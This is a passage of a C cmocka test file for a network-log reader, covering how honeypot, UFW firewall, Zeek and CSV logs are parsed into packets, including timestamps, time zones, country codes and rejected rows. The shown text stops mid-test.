/* SPDX-License-Identifier: Apache-2.0 */
/* The shipped formats over small logs, and what the reader promises whatever the format. */
#include "log/log.h"

#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>

#include <cmocka.h>

#include "base/intern.h"
#include "base/stream.h"
#include "log/fields.h"
#include "log/format.h"
#include "model/packet.h"

#define PACKETS_MAX 20000
#define SECOND 1000000000ll

/* What one reading of a log gave. */
struct result {
    struct packet packets[PACKETS_MAX];
    size_t count;
    struct log_counts counts;
    struct log_position position;
    struct log_reject rejects[LOG_REJECTS_KEPT];
    size_t reject_count;
    char format[32], no_country[64];
    uint64_t opened, digest; /* of what was read when the log was open, and of all */
    struct nj_err err;
};

static struct result result;
static struct nj_intern *names;

static struct log_formats *load(const char *dir)
{
    struct log_formats *formats = NULL;
    struct nj_err err = {.msg = ""};

    if (log_formats_load(dir, &formats, &err) < 0)
        fail_msg("%s", err.msg);
    return formats;
}

/* Payloads and users' names are borrowed until the next log_read. */
static void keep_texts(size_t from, size_t count)
{
    static uint8_t payloads[8][256];
    static char users[8][128];

    for (size_t i = from; i < from + count && i < 8; i++) {
        if (result.packets[i].payload_length <= sizeof(payloads[i]) &&
            result.packets[i].payload_length > 0)
            result.packets[i].payload = memcpy(payloads[i], result.packets[i].payload,
                                               result.packets[i].payload_length);
        if (result.packets[i].user == NULL)
            continue;
        (void)snprintf(users[i], sizeof(users[i]), "%s", result.packets[i].user);
        result.packets[i].user = users[i];
    }
}

/* Read it all in rounds of `round`. @return what log_open or the last log_read said */
static int read_bytes(const struct log_formats *formats, const char *as, const void *bytes,
                      size_t length, const struct log_options *options, size_t round)
{
    const struct log_format *format = NULL;
    struct nj_stream *stream = NULL;
    struct log *log = NULL;
    const struct log_reject *rejects;
    size_t count;
    int rc;

    memset(&result, 0, sizeof(result));
    assert_int_equal(nj_stream_open_bytes(bytes, length, &stream, &result.err), 0);
    if (as != NULL)
        format = log_formats_find(formats, as);
    else
        assert_int_equal(log_detect(formats, stream, &format, &result.err), 0);
    assert_non_null(format);
    (void)snprintf(result.format, sizeof(result.format), "%s", log_format_name(format));
    rc = log_open(format, stream, options, names, &log, &result.err);
    result.opened = nj_stream_digest(stream);
    while (rc == 0) {
        assert_true(result.count + round <= PACKETS_MAX);
        rc = log_read(log, result.packets + result.count, round, &count, &result.err);
        if (rc == 0) {
            assert_in_range(count, 1, round);
            keep_texts(result.count, count);
            result.count += count;
        }
    }
    if (log != NULL) {
        result.counts = log_counts(log);
        (void)snprintf(result.no_country, sizeof(result.no_country), "%s", log_no_country(log));
        result.position = log_position(log);
        rejects = log_rejects(log, &result.reject_count);
        memcpy(result.rejects, rejects, result.reject_count * sizeof(*rejects));
        assert_int_equal(result.counts.rows, result.count);
    }
    result.digest = nj_stream_digest(stream);
    log_free(log);
    nj_stream_free(stream);
    return rc;
}

static int read_text(const char *as, const char *text, const struct log_options *options)
{
    struct log_formats *formats = load(NJ_SOURCE_DATA "/logs");
    int rc = read_bytes(formats, as, text, strlen(text), options, 1000);

    log_formats_free(formats);
    return rc;
}

static void read_good(const char *format, const char *text, const struct log_options *options)
{
    if (read_text(NULL, text, options) != LOG_END)
        fail_msg("%s", result.err.msg);
    assert_string_equal(result.format, format);
}

/* Read by a format that stands in a folder of its own. */
static int read_with(const char *format_text, const char *text)
{
    char dir[] = "/tmp/nightjar-test-XXXXXX", path[64];
    struct log_formats *formats;
    FILE *out;
    int rc;

    assert_non_null(mkdtemp(dir));
    (void)snprintf(path, sizeof(path), "%s/own.sql", dir);
    out = fopen(path, "we");
    assert_non_null(out);
    assert_int_equal(fputs(format_text, out) >= 0, 1);
    assert_int_equal(fclose(out), 0);
    formats = load(dir);
    rc = read_bytes(formats, log_format_name(log_formats_at(formats, 0)), text, strlen(text),
                    &(struct log_options){0}, 100);
    log_formats_free(formats);
    assert_int_equal(unlink(path), 0);
    assert_int_equal(rmdir(dir), 0);
    return rc;
}

static void assert_reject(size_t i, uint64_t line, const char *reason)
{
    assert_true(i < result.reject_count);
    assert_int_equal(result.rejects[i].line, line);
    assert_string_equal(result.rejects[i].reason, reason);
}

static const char *text_of(struct addr a)
{
    static char text[ADDR_TEXT_MAX];

    return addr_text(a, text);
}

static const struct log_options plain;

/* ---- formats ---- */

#define AWS_HEADER "datetime,host,src,proto,type,spt,dpt\n"

static void aws_rows_keep_order_and_duplicates(void **state)
{
    (void)state;
    read_good("aws-honeypot",
              AWS_HEADER "2013-03-03 21:53:59,oregon,3221225985,TCP,,6000,1433\n"
                         "2013-03-03 21:50:00,tokyo,3325256711,ICMP,8,,\n"
                         "2013-03-03 21:53:59,oregon,3221225985,TCP,,6000,1433\n",
              &plain);
    assert_int_equal(result.count, 3);
    assert_int_equal(result.packets[0].time_ns, 1362347639 * SECOND);
    assert_string_equal(text_of(result.packets[0].src), "192.0.2.1");
    assert_true(addr_is_none(result.packets[0].dst));
    assert_int_equal(result.packets[0].proto, PROTO_TCP);
    assert_int_equal(result.packets[0].sport, 6000);
    assert_int_equal(result.packets[0].dport, 1433);
    assert_string_equal(nj_intern_text(names, result.packets[0].sensor), "oregon");
    assert_string_equal(nj_intern_text(names, result.packets[0].rule), "log:aws-honeypot");
    assert_int_equal(result.packets[0].class, CLASS_SCAN);
    assert_true(result.packets[0].row && result.packets[0].no_fields);
    assert_string_equal(text_of(result.packets[1].src), "198.51.100.7");
    assert_int_equal(result.packets[1].time_ns, 1362347400 * SECOND);
    assert_int_equal(result.packets[1].dport, 8 << 8);
    assert_memory_equal(&result.packets[2], &result.packets[0], sizeof(struct packet));
}

static void aws_variant_with_places_is_read_too(void **state)
{
    (void)state;
    read_good(
        "aws-honeypot",
        "datetime,host,src,proto,type,srcport,destport,srcip,locale,comment\n"
        "3/3/13 21:53,oregon,,TCP,,6000,1433,192.0.2.1,\"Sheng, Jiangxi\",\"say \"\"no\"\"\n"
        "more\"\n"
        "12/31/13 0:05,tokyo,3221225986,UDP,,5270,5060,,,\n",
        &plain);
    assert_int_equal(result.count, 2);
    assert_int_equal(result.packets[0].time_ns, 1362347580 * SECOND);
    assert_string_equal(text_of(result.packets[0].src), "192.0.2.1");
    assert_int_equal(result.packets[1].time_ns, 1388448300 * SECOND);
    assert_string_equal(text_of(result.packets[1].src), "192.0.2.2");
    assert_int_equal(result.packets[1].proto, PROTO_UDP);
}

#define UFW(time, rest)                                                                        \
    time " host kernel: [    1.5] [UFW BLOCK] IN=eth0 OUT= MAC=00:11 " rest "\n"
#define UFW_SYN                                                                                \
    "SRC=192.0.2.1 DST=203.0.113.9 LEN=44 TOS=0x02 PREC=0x00 TTL=109 ID=54321 DF PROTO=TCP "   \
    "SPT=31745 DPT=25 WINDOW=1024 RES=0x00 CWR ECE SYN URGP=0 "

static void ufw_row_is_a_packet_with_its_fields(void **state)
{
    const struct packet *p = result.packets;

    (void)state;
    read_good("ufw", UFW("May  8 00:00:52", UFW_SYN), &(struct log_options){.year = 2022});
    assert_int_equal(result.count, 1);
    assert_int_equal(p->time_ns, 1651968052 * SECOND);
    assert_string_equal(text_of(p->dst), "203.0.113.9");
    assert_int_equal(p->proto, PROTO_TCP);
    assert_int_equal(p->sport, 31745);
    assert_int_equal(p->dport, 25);
    assert_int_equal(p->ttl, 109);
    assert_int_equal(p->tos, 2);
    assert_int_equal(p->ip_id, 54321);
    assert_true(p->df);
    assert_int_equal(p->window, 1024);
    assert_int_equal(p->tcp_flags, TCP_SYN | TCP_ECE | TCP_CWR);
    assert_int_equal(p->ip_length, 44);
    assert_int_equal(p->row_packets, 1);
    assert_int_equal(p->row_bytes, 44);
    assert_int_equal(p->rule, 0);
    assert_int_equal(p->direction, DIRECTION_IN);
    assert_false(p->no_fields);
    assert_true(p->no_seq);
}

static void ufw_reads_icmp_with_quote_ipv6_other_protocols_and_outgoing(void **state)
{
    const struct packet *p = result.packets;

    (void)state;
    read_good("ufw",
              UFW("May  8 00:00:01",
                  "SRC=192.0.2.1 DST=203.0.113.9 LEN=28 TOS=0x00 TTL=53 ID=48244 "
                  "PROTO=ICMP TYPE=8 CODE=0 ID=40793 SEQ=43867 ")
                  UFW("May  8 00:00:02", "SRC=192.0.2.1 DST=203.0.113.9 LEN=56 TOS=0x00 TTL=53 "
                                         "ID=7 PROTO=ICMP TYPE=3 CODE=1 "
                                         "[SRC=203.0.113.9 DST=198.51.100.1 LEN=40 TOS=0x00 "
                                         "TTL=60 ID=0 DF PROTO=TCP SPT=80 "
                                         "DPT=1234 WINDOW=5 RES=0x00 ACK URGP=0 ] ")
                      UFW("May  8 00:00:03", "SRC=2001:0db8:0000:0000:0000:0000:0000:0001 "
                                             "DST=2001:0db8:0000:0000:0000:0000:0000:0002 "
                                             "LEN=64 TC=0 HOPLIMIT=255 FLOWLBL=0 "
                                             "PROTO=ICMPv6 TYPE=128 CODE=0 ID=99 SEQ=1 ")
                          UFW("May  8 00:00:04",
                              "SRC=192.0.2.1 DST=203.0.113.9 LEN=578 TOS=0x00 TTL=47 ID=8400 "
                              "DF PROTO=47 ") "May  8 00:00:05 host kernel: [1.5] [UFW ALLOW] "
                                              "IN= OUT=eth0 SRC=203.0.113.9 "
                                              "DST=192.0.2.1 LEN=40 TTL=64 ID=1 PROTO=UDP "
                                              "SPT=53 DPT=5353 LEN=20 \n",
              &(struct log_options){.year = 2022});
    assert_int_equal(result.count, 5);
    assert_int_equal(p[0].dport, 8 << 8);
    assert_int_equal(p[0].sport, 40793);
    assert_int_equal(p[0].ip_id, 48244);
    assert_int_equal(p[1].dport, 3 << 8 | 1);
    assert_int_equal(p[1].sport, 0);
    assert_int_equal(p[1].ip_id, 7);
    assert_false(p[1].df);
    assert_int_equal(p[1].tcp_flags, 0);
    assert_int_equal(p[1].quoted_proto, PROTO_TCP);
    assert_string_equal(text_of(p[1].quoted_src), "203.0.113.9");
    assert_string_equal(text_of(p[1].quoted_dst), "198.51.100.1");
    assert_int_equal(p[1].quoted_sport, 80);
    assert_int_equal(p[1].quoted_dport, 1234);
    assert_int_equal(p[2].ip_version, 6);
    assert_string_equal(text_of(p[2].src), "2001:db8::1");
    assert_int_equal(p[2].proto, PROTO_ICMPV6);
    assert_int_equal(p[2].dport, 128 << 8);
    assert_int_equal(p[2].sport, 99);
    assert_int_equal(p[2].ttl, 255);
    assert_int_equal(p[2].ip_id, 0);
    assert_int_equal(p[3].proto, 47);
    assert_int_equal(p[3].dport, 0);
    assert_int_equal(p[4].direction, DIRECTION_OUT);
    assert_int_equal(p[4].proto, PROTO_UDP);
    assert_int_equal(p[4].ip_length, 40);
}

static void lines_of_other_programs_are_counted_unsupported(void **state)
{
    (void)state;
    read_good(
        "ufw",
        "May  8 00:00:01 host sshd[1]: Failed password for root\n" UFW(
            "May  8 00:00:52",
            UFW_SYN) "May  8 00:00:53 host kernel: [1.5] [UFW AUDIT] IN=eth0 OUT= " UFW_SYN
                     "\n",
        &(struct log_options){.year = 2022});
    assert_int_equal(result.counts.rows, 1);
    assert_int_equal(result.counts.unsupported, 2);
    assert_int_equal(result.counts.malformed, 0);
}

static void year_goes_on_from_december_to_january(void **state)
{
    (void)state;
    read_good("ufw",
              UFW("Dec 31 23:59:59", UFW_SYN) UFW("Jan  1 00:00:01", UFW_SYN)
                  UFW("Dec 31 23:59:58", UFW_SYN) UFW("Jan  1 00:00:02", UFW_SYN)
                      UFW("Feb 29 00:00:00", UFW_SYN) UFW("Mar  1 00:00:00", UFW_SYN),
              &(struct log_options){.year = 2021});
    assert_int_equal(result.count, 5);
    assert_int_equal(result.packets[0].time_ns, 1640995199 * SECOND);
    assert_int_equal(result.packets[1].time_ns, 1640995201 * SECOND);
    assert_int_equal(result.packets[2].time_ns, 1640995198 * SECOND);
    assert_int_equal(result.packets[3].time_ns, 1640995202 * SECOND);
    assert_int_equal(result.packets[4].time_ns, 1646092800 * SECOND);
    assert_reject(0, 5, "29 February, in a year that has none");
}

static void times_without_a_year_have_fractions_and_leap_seconds(void **state)
{
    (void)state;
    read_good("ufw",
              UFW("May 08 00:00:52.123456", UFW_SYN) UFW("May  8 00:00:52.5", UFW_SYN)
                  UFW("Dec 31 23:59:60", UFW_SYN),
              &(struct log_options){.year = 2022});
    assert_int_equal(result.count, 3);
    assert_int_equal(result.packets[0].time_ns, 1651968052123456000);
    assert_int_equal(result.packets[1].time_ns, 1651968052500000000);
    assert_int_equal(result.packets[2].time_ns, 1672531199 * SECOND);
}

static void years_go_on_behind_the_log_that_stood_there_before(void **state)
{
    struct log_options after = {.after_ns = 1672549080 * SECOND, /* 2023-01-01 04:58 UTC */
                                .tz = "America/New_York"};

    (void)state;
    read_good("ufw", UFW("Dec 31 23:59:00", UFW_SYN) UFW("Jan  1 00:00:01", UFW_SYN), &after);
    assert_int_equal(result.packets[0].time_ns, 1672549140 * SECOND);
    assert_int_equal(result.packets[1].time_ns, 1672549201 * SECOND);
    after.year = 2022; /* of a log long ago */
    read_good("ufw", UFW("Jan  1 00:00:01", UFW_SYN) UFW("Aug  1 00:00:00", UFW_SYN), &after);
    assert_int_equal(result.packets[0].time_ns, 1672549201 * SECOND);
    assert_int_equal(result.packets[1].time_ns, 1690862400 * SECOND);
    after.after_ns = 1672549201 * SECOND;
    after.year = 0;
    read_good("ufw", UFW("Dec 31 23:59:59", UFW_SYN), &after); /* late */
    assert_int_equal(result.packets[0].time_ns, 1672549199 * SECOND);
}

static void times_without_a_year_need_one_and_others_do_not(void **state)
{
    (void)state;
    assert_int_equal(read_text(NULL, UFW("May  8 00:00:52", UFW_SYN), &plain), -1);
    assert_int_equal(result.err.code, NJ_CONFIG);
    assert_non_null(strstr(result.err.msg, "--year"));
    read_good("ufw", UFW("2022-05-08T02:00:52.250000+02:00", UFW_SYN), &plain);
    assert_int_equal(result.packets[0].time_ns, 1651968052 * SECOND + SECOND / 4);
}

static void zone_applies_to_logs_of_honeypots_too(void **state)
{
    const struct log_options brazil = {.tz = "America/Sao_Paulo"};

    (void)state;
    read_good("aws-honeypot",
              AWS_HEADER "2013-03-03 21:53:59,oregon,3221225985,TCP,,6000,1433\n", &brazil);
    assert_int_equal(result.packets[0].time_ns, (1362347639 + 3 * 3600) * SECOND);
    read_good(
        "docker-api",
        "2021_05_15_04\t{\"url\": \"http://198.51.100.1:2375/_ping\", \"method\": \"GET\","
        " \"source\": \"192.0.2.1\", \"data\": \"\", \"headers\": []}\n",
        &brazil);
    assert_int_equal(result.packets[0].time_ns, 1621062000 * SECOND);
}

static void zone_applies_to_times_that_name_none(void **state)
{
    (void)state;
    read_good("ufw", UFW("Jan  8 12:00:00", UFW_SYN) UFW("Jul  8 12:00:00", UFW_SYN),
              &(struct log_options){.year = 2022, .tz = "Europe/Berlin"});
    assert_int_equal(result.packets[0].time_ns, 1641639600 * SECOND);
    assert_int_equal(result.packets[1].time_ns, 1657274400 * SECOND);
    read_good("csv",
              "time,src\n2022-01-08 12:00:00,192.0.2.1\n2022-01-08T12:00:00Z,192.0.2.1\n",
              &(struct log_options){.tz = "-03:30"});
    assert_int_equal(result.packets[0].time_ns, 1641655800 * SECOND);
    assert_int_equal(result.packets[1].time_ns, 1641643200 * SECOND);
    assert_int_equal(
        read_text(NULL, "time,src\n1,192.0.2.1\n", &(struct log_options){.tz = "Mars/Base"}),
        -1);
    assert_int_equal(result.err.code, NJ_CONFIG);
}

#define ZEEK_HEADER                                                                            \
    "#separator \\x09\n#set_separator\t,\n#empty_field\t(empty)\n#unset_field\t-\n"            \
    "#path\tconn\n#open\t2022-05-08-00-00-00\n"
#define ZEEK_FIELDS                                                                            \
    "#fields\tts\tuid\tid.orig_h\tid.orig_p\tid.resp_h\tid.resp_p\tproto\tservice\tduration\t" \
    "conn_state\torig_pkts\torig_ip_bytes\tresp_pkts\n"
#define ZEEK_ROW                                                                               \
    "1651968052.250001\tC1\t192.0.2.1\t41040\t203.0.113.9\t80\ttcp\thttp\t3.139211\tSF\t3\t"   \
    "180\t2\n"

static void assert_zeek_row(const struct packet *p)
{
    assert_int_equal(p->time_ns, 1651968052250001000);
    assert_string_equal(text_of(p->src), "192.0.2.1");
    assert_string_equal(text_of(p->dst), "203.0.113.9");
    assert_int_equal(p->sport, 41040);
    assert_int_equal(p->dport, 80);
    assert_string_equal(nj_intern_text(names, p->app), "http");
    assert_string_equal(nj_intern_text(names, p->conn_state), "SF");
    assert_int_equal(p->row_duration_us, 3139211);
    assert_int_equal(p->row_packets, 3);
    assert_int_equal(p->row_bytes, 180);
    assert_true(p->answered);
}

static void zeek_unset_fields_are_unknown(void **state)
{
    (void)state;
    read_good("zeek-conn",
              ZEEK_HEADER ZEEK_FIELDS ZEEK_ROW
              "1651968053\tC2\t192.0.2.1\t8\t203.0.113.9\t0\ticmp\t-\t-\tOTH\t-\t-\t0\n"
              "#close\t2022-05-08-01-00-00\n",
              &plain);
    assert_int_equal(result.count, 2);
    assert_int_equal(result.counts.malformed + result.counts.unsupported, 0);
    assert_zeek_row(&result.packets[0]);
    assert_int_equal(result.packets[1].dport, 8 << 8);
    assert_int_equal(result.packets[1].sport, 0);
    assert_int_equal(result.packets[1].app, 0);
    assert_int_equal(result.packets[1].row_packets, 0);
    assert_int_equal(result.packets[1].row_duration_us, 0);
    assert_false(result.packets[1].answered);
}

static void zeek_json_says_the_same(void **state)
{
    (void)state;
    read_good("zeek-conn",
              "{\"ts\":1651968052.250001,\"uid\":\"C1\",\"id.orig_h\":\"192.0.2.1\","
              "\"id.orig_p\":41040,\"id.resp_h\":\"203.0.113.9\",\"id.resp_p\":80,"
              "\"proto\":\"tcp\",\"service\":\"http\",\"duration\":3.139211,"
              "\"conn_state\":\"SF\",\"orig_pkts\":3,\"orig_ip_bytes\":180,\"resp_pkts\":2}\n"
              "{\"ts\":\"2022-05-08T00:00:52.250001Z\",\"id.orig_h\":\"2001:db8::1\","
              "\"id.orig_p\":128,\"id.resp_h\":\"2001:db8::2\",\"id.resp_p\":0,"
              "\"proto\":\"icmp\",\"conn_state\":\"OTH\"}\n",
              &plain);
    assert_int_equal(result.count, 2);
    assert_zeek_row(&result.packets[0]);
    assert_int_equal(result.packets[1].time_ns, 1651968052250001000);
    assert_int_equal(result.packets[1].proto, PROTO_ICMPV6);
    assert_int_equal(result.packets[1].dport, 128 << 8);
}

static void zeek_header_may_change_on_the_way(void **state)
{
    (void)state;
    read_good("zeek-conn",
              ZEEK_HEADER ZEEK_FIELDS ZEEK_ROW ZEEK_HEADER
              "#fields\tproto\tconn_state\tid.resp_p\tid.resp_h\tid.orig_p\tid.orig_h\tts\n"
              "udp\tS0\t53\t203.0.113.9\t5353\t198.51.100.2\t1651968060\n",
              &plain);
    assert_int_equal(result.count, 2);
    assert_string_equal(text_of(result.packets[1].src), "198.51.100.2");
    assert_int_equal(result.packets[1].dport, 53);
    assert_int_equal(result.packets[1].row_packets, 0);
}

static void bad_json_lines_are_rejected_one_by_one(void **state)
{
    (void)state;
    assert_int_equal(
        read_text("zeek-conn",
                  "{\"ts\":1,\"id.orig_h\":\"192.0.2.1\"}\n"
                  "{\"ts\":2,\"id.orig_h\":\"192.0.2.1\"\n"
                  "[1,2]\n"
                  "\n"
                  "{\"ts\":3,\"id.orig_h\":\"192.0.2.300\"}\n"
                  "{\"ts\":4,\"id.orig_h\":{\"a\":\"\\u001b[31m\"},\"proto\":\"tcp\"}\n"
                  "{\"ts\":5,\"id.orig_h\":\"192.0.2.5\",\"service\":\"a\\u0000b\"}\n",
                  &plain),
        LOG_END);
    assert_int_equal(result.count, 2);
    assert_int_equal(result.counts.malformed, 4);
    assert_reject(0, 2, "not valid JSON");
    assert_reject(1, 3, "not a JSON object");
    assert_reject(2, 5, "src is \"192.0.2.300\", expected an address");
    assert_int_equal(result.rejects[3].line, 6);
    assert_null(strchr(result.rejects[3].reason, 0x1b));
    assert_int_equal(result.packets[1].time_ns, 5 * SECOND);
    assert_string_equal(nj_intern_text(names, result.packets[1].app), "a?b");
}

static void csv_takes_the_usual_names_and_times(void **state)
{
    (void)state;
    read_good("csv",
              "\xef\xbb\xbfSrc IP;\"Dest Port\";Protocol;Time;Username\n"
              "192.0.2.1;22;tcp;1651968052;\"ro;ot\"\n"
              "192.0.2.1;0x17;6;1651968052250;\n"
              "192.0.2.1;53;UDP;1651968052250001;x\n"
              "192.0.2.1;;icmp;2022/05/08 00:00:52;y\n",
              &plain);
    assert_int_equal(result.count, 4);
    assert_string_equal(result.packets[0].user, "ro;ot");
    assert_int_equal(result.packets[0].dport, 22);
    assert_int_equal(result.packets[1].dport, 23);
    assert_null(result.packets[1].user);
    assert_int_equal(result.packets[0].time_ns, 1651968052 * SECOND);
    assert_int_equal(result.packets[1].time_ns, 1651968052250000000);
    assert_int_equal(result.packets[2].time_ns, 1651968052250001000);
    assert_int_equal(result.packets[3].time_ns, 1651968052 * SECOND);
    assert_int_equal(result.packets[3].proto, PROTO_ICMP);
}

static const char *country_of(size_t i)
{
    return result.packets[i].country == 0 ? ""
                                          : nj_intern_text(names, result.packets[i].country);
}

static void a_country_is_a_code_of_two_letters_or_none(void **state)
{
    (void)state;
    read_good("csv",
              "src,dport,time,country\n"
              "192.0.2.1,22,1651968052,CN\n"
              "192.0.2.1,22,1651968052, de \n"
              "192.0.2.1,22,1651968052,China\n"
              "192.0.2.1,22,1651968052,DEU\n"
              "192.0.2.1,22,1651968052,-\n"
              "192.0.2.1,22,1651968052,N/A\n"
              "192.0.2.1,22,1651968052,NA\n"
              "192.0.2.1,22,1651968052,C1\n"
              "192.0.2.1,22,1651968052,\n",
              &plain);
    assert_int_equal(result.count, 9);
    assert_string_equal(country_of(0), "CN");
    assert_string_equal(country_of(1), "DE");
    assert_string_equal(country_of(2), ""); /* Switzerland is CH */
    assert_string_equal(country_of(3), "");
    assert_string_equal(country_of(4), "");
    assert_string_equal(country_of(5), "");
    assert_string_equal(country_of(6), "NA"); /* Namibia */
    assert_string_equal(country_of(7), "");
    assert_string_equal(country_of(8), "");
    assert_int_equal(result.counts.no_country, 3);
    assert_string_equal(result.no_country, "China");
    assert_int_equal(result.counts.malformed, 0);
}

static void csv_cells_may_look_as_other_programs_write_them(void **state)
{
    (void)state;
    read_good("csv",
              "timestamp, src_ip, src_port, dst_ip, dst_port, protocol\n"
              "2022-05-08T00:00:52Z, 192.0.2.1, 4000, 203.0.113.9, 22.0,\ttcp \n"
              "2022-05-08 00:00:52Z,[2001:db8::7],4000.00, 2001:db8::9 ,23,6\n"
              "\"2022-05-08 00:00:52,250\",fe80::1%eth0, ,,24,tcp\n"
              "1651968052,192.0.2.1%1,1,203.0.113.9,22,tcp\n"
              "1651968052,192.0.2.1,1,203.0.113.9,22.5,tcp\n"
              "1651968052,[],1,203.0.113.9,22,tcp\n",
              &plain);
    assert_int_equal(result.count, 3);
    assert_int_equal(result.packets[0].time_ns, 1651968052 * SECOND);
    assert_int_equal(result.packets[0].dport, 22);
    assert_int_equal(result.packets[0].proto, PROTO_TCP);
    assert_string_equal(text_of(result.packets[1].src), "2001:db8::7");
    assert_string_equal(text_of(result.packets[1].dst), "2001:db8::9");
    assert_int_equal(result.packets[1].sport, 4000);
    assert_string_equal(text_of(result.packets[2].src), "fe80::1");
    assert_int_equal(result.packets[2].time_ns, 1651968052250000000);
    assert_int_equal(result.packets[2].sport, 0);
    assert_reject(0, 5, "src is \"192.0.2.1%1\", expected an address");
    assert_reject(1, 6, "dport is \"22.5\", expected a number");
    assert_reject(2, 7, "src is \"\", expected an address");
}

/* Kibana groups digits, and has a dash for what a document has not. */
static void cells_may_say_that_they_hold_nothing(void **state)
{
    (void)state;
    read_good("csv",
              "@timestamp,src_ip,src_port,dst_ip,dst_port,protocol\n"
              "\"May 8, 2022 @ 00:00:52.000\",192.0.2.1,\"40,000\",203.0.113.9,22,tcp\n"
              "\"May 8, 2022 @ 00:00:52.000\",192.0.2.1,-,-,-,-\n"
              "\"May 8, 2022 @ 00:00:52.000\",192.0.2.1, N/A ,null,None,unknown\n"
              "\"May 8, 2022 @ 00:00:52.000\",-,1,203.0.113.9,22,tcp\n"
              "\"May 8, 2022 @ 00:00:52.000\",192.0.2.1,1,203.0.113.9,\"2,2\",tcp\n"
              "\"May 8, 2022 @ 00:00:52.000\",192.0.2.1,1,203.0.113.9,\",022\",tcp\n"
              "\"May 8, 2022 @ 00:00:52.000\",192.0.2.1,1,203.0.113.9,\"2,0222\",tcp\n",
              &plain);
    assert_int_equal(result.count, 3);
    assert_int_equal(result.packets[0].sport, 40000);
    for (size_t i = 1; i < 3; i++) {
        assert_int_equal(result.packets[i].sport, 0);
        assert_int_equal(result.packets[i].dport, 0);
        assert_int_equal(result.packets[i].proto, 0);
        assert_true(addr_is_none(result.packets[i].dst));
    }
    assert_reject(0, 5, "no source address");
    assert_reject(1, 6, "dport is \"2,2\", expected a number");
    assert_reject(2, 7, "dport is \",022\", expected a number");
    assert_reject(3, 8, "dport is \"2,0222\", expected a number");
}

static void names_of_columns_may_hold_delimiters_in_quotes(void **state)
{
    (void)state;
    read_good("csv",
              "\"time\",\"note, of the day\",\"src_ip\",\"x, y, z\",\"dst_port\"\n"
              "2024-05-08T00:00:52Z,\"a, b\",192.0.2.1,c,23\n",
              &plain);
    assert_int_equal(result.count, 1);
    assert_string_equal(text_of(result.packets[0].src), "192.0.2.1");
    assert_int_equal(result.packets[0].dport, 23);
    read_good("csv", "time,src_ip,\"open, dst_port\n2024-05-08T00:00:52Z,192.0.2.1,a,23\n",
              &plain); /* a quote that is not closed is one of the name */
    assert_int_equal(result.count, 1);
}

/* Linux prints neither flags nor type of what is not the first fragment, or too short. */
static void kernel_rows_without_a_transport_header_say_so(void **state)
{
    (void)state;
    read_good("ufw",
              UFW("May  8 00:00:52", "SRC=192.0.2.1 DST=203.0.113.9 LEN=548 TOS=0x00 "
                                     "PREC=0x00 TTL=57 ID=1 FRAG:185 PROTO=TCP ")
                  UFW("May  8 00:00:52",
                      "SRC=192.0.2.1 DST=203.0.113.9 LEN=24 TOS=0x00 "
                      "PREC=0x00 TTL=57 ID=1 PROTO=TCP INCOMPLETE [4 bytes] ")
                      UFW("May  8 00:00:52", "SRC=192.0.2.1 DST=203.0.113.9 LEN=24 TOS=0x00 "
                                             "PREC=0x00 TTL=57 ID=1 PROTO=ICMP INCOMPLETE [4 "
                                             "bytes] ")
                          UFW("May  8 00:00:52",
                              "SRC=2001:db8::1 DST=2001:db8::2 LEN=80 TC=0 HOPLIMIT=57 "
                              "FLOWLBL=0 FRAG:0 ID:0000abcd PROTO=TCP SPT=1 DPT=2 WINDOW=9 "
                              "RES=0x00 SYN URGP=0 ") UFW("May  8 00:00:52", UFW_SYN),
              &(struct log_options){.year = 2024});
    assert_int_equal(result.count, 5);
    for (size_t i = 0; i < 5; i++) {
        assert_int_equal(result.packets[i].fragment, i == 0);
        assert_int_equal(result.packets[i].no_transport, i < 3);
    }
}

static void values_of_fields_may_stand_in_quotes(void **state)
{
    (void)state;
    assert_int_equal(
        read_with("-- name: own\n-- read: lines\nSELECT n, epoch_time(field(line, 't')) AS ts, "
                  "field(line, 'src') AS src, field(line, 'user') AS \"user\", "
                  "field(line, 'app') AS app, field(line, 'dport') AS dport FROM rows\n",
                  "t=\"1\" src=192.0.2.1 user=\"a b]c\" app=\"\" dport=23\n"
                  "t=2 src=\"192.0.2.1\" user=\"open dport=\"22\"\n"
                  "t=3 src=192.0.2.1 user=\"\n"),
        LOG_END);
    assert_int_equal(result.count, 3);
    assert_string_equal(result.packets[0].user, "a b]c");
    assert_int_equal(result.packets[0].app, 0);
    assert_int_equal(result.packets[0].dport, 23);
    assert_string_equal(result.packets[1].user, "open dport=");
    assert_int_equal(result.packets[1].dport, 22);
    assert_string_equal(result.packets[2].user, "\"");
}

static void rejected_rows_come_with_line_and_reason(void **state)
{
    (void)state;
    read_good("csv",
              "ts,src,dst,dport,proto\n"         /* 1 */
              "1,192.0.2.1,203.0.113.9,80,tcp\n" /* 2 */
              "\n"                               /* 3 */
              "1,host.example,203.0.113.9,80,tcp\n"
              "1,,203.0.113.9,80,tcp\n" /* 5 */
              "soon,192.0.2.1,203.0.113.9,80,tcp\n"
              "1,192.0.2.1,203.0.113.9,65536,tcp\n"
              "1,192.0.2.1,203.0.113.9,http,tcp\n" /* 8 */
              "1,192.0.2.1,203.0.113.9,80,quic\n"
              "1,192.0.2.1,203.0.113.9\n" /* 10 */
              "1,192.0.2.1,203.0.113.9,80,tcp,x\n"
              "1,192.0.2.1,2001:db8::1,80,tcp\n"
              "-5,192.0.2.1,203.0.113.9,80,tcp\n"
              "1,\"192.0.2.1,203.0.113.9,80,tcp\n" /* 14 */
              "2,192.0.2.1,203.0.113.9,81,tcp\n",  /* 15 */
              &plain);
    assert_int_equal(result.count, 2);
    assert_int_equal(result.packets[1].dport, 81);
    assert_int_equal(result.counts.malformed, 11);
    assert_reject(0, 4, "src is \"host.example\", expected an address");
    assert_reject(1, 5, "no source address");
    assert_reject(2, 6, "no time, or one that can't be read");
    assert_reject(3, 7, "dport is 65536, expected 0 to 65535");
    assert_reject(4, 8, "dport is \"http\", expected a number");
    assert_reject(5, 9, "proto is \"quic\", expected a protocol");
    assert_reject(6, 10, "3 columns, the header has 5");
    assert_reject(7, 11, "6 columns, the header has 5");
    assert_reject(8, 12, "src and dst are of different families");
    assert_reject(9, 13, "the time is before 1970 or after 2112-09-17");
    assert_reject(10, 14, "a quote is not closed within 65536 bytes");
}

static void rows_of_times_that_no_packet_has_are_rejected(void **state)
{
    (void)state;
    read_good("csv",
              "ts,src,port,duration\n"                /* 1 */
              "4503599627,192.0.2.1,80,\n"            /* 2: in September 2112 */
              "4503599628,192.0.2.1,80,\n"            /* 3 */
              "9223372036,192.0.2.1,80,\n"            /* 4 */
